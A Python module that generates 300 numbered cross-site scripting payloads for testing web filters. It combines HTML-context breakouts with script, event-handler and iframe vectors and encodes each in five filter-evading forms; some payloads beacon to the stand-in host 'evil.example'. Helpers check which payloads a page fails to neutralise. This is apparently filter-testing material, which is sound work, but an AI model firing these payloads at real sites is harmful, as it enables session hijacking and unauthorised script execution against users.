"""300 texts that act in a browser which believes them: a dialog, or a question to a server of theirs (H:X1, X2).

Each is a way out of what a text may stand in, then a way to act, written as one of several kinds of people would to
get it past a filter. Each names its own number, so that whatever acts says which it was.
"""

import html
import re
from collections.abc import Iterator, Sequence
from itertools import product
from urllib.parse import quote

THEIRS = "evil.example"
_OUT_OF = ["", '">', "'>", "</textarea>", "--></script>", "</style></title>"]
_ACTS = [
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg onload=alert({n})>",
    '<iframe srcdoc="<script>parent.alert({n})</script>">', "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>", "<a href=javascript:alert({n}) autofocus>{n}</a>",
    "<img src=//{theirs}/{n}.gif>", "<link rel=stylesheet href=//{theirs}/{n}.css>",
    "<p style=background:url(//{theirs}/{n})>",
]  # fmt: skip


def _plain(text: str) -> str:
    return text


def _loud(text: str) -> str:
    """Names of tags and handlers in the other case."""
    return re.sub(r"(?<=<)/?\w+| on\w+(?==)", lambda found: found[0].upper(), text)


def _entities(text: str) -> str:
    return html.escape(text)


def _percents(text: str) -> str:
    return quote(text, safe="/ :()")


def _escapes(text: str) -> str:
    """As a string of JavaScript holds it."""
    return text.replace("<", r"\u003c").replace(">", r"\u003e").replace('"', r"\u0022")


_SPELLED = [_plain, _loud, _entities, _percents, _escapes]
ACTING = [
    spell(out + act.format(n=number, theirs=THEIRS))
    for number, (out, act, spell) in enumerate(product(_OUT_OF, _ACTS, _SPELLED))
]


def in_lines(texts: Sequence[str], each: int) -> Iterator[str]:
    """So many texts in one, a line each."""
    for begin in range(0, len(texts), each):
        yield "\n".join(texts[begin : begin + each])


def not_in(shown: str, texts: Sequence[str]) -> list[str]:
    """Those that a page did not show letter by letter; how it breaks lines says nothing."""
    flat = " ".join(shown.split())
    return [text for text in texts if " ".join(text.split()) not in flat]
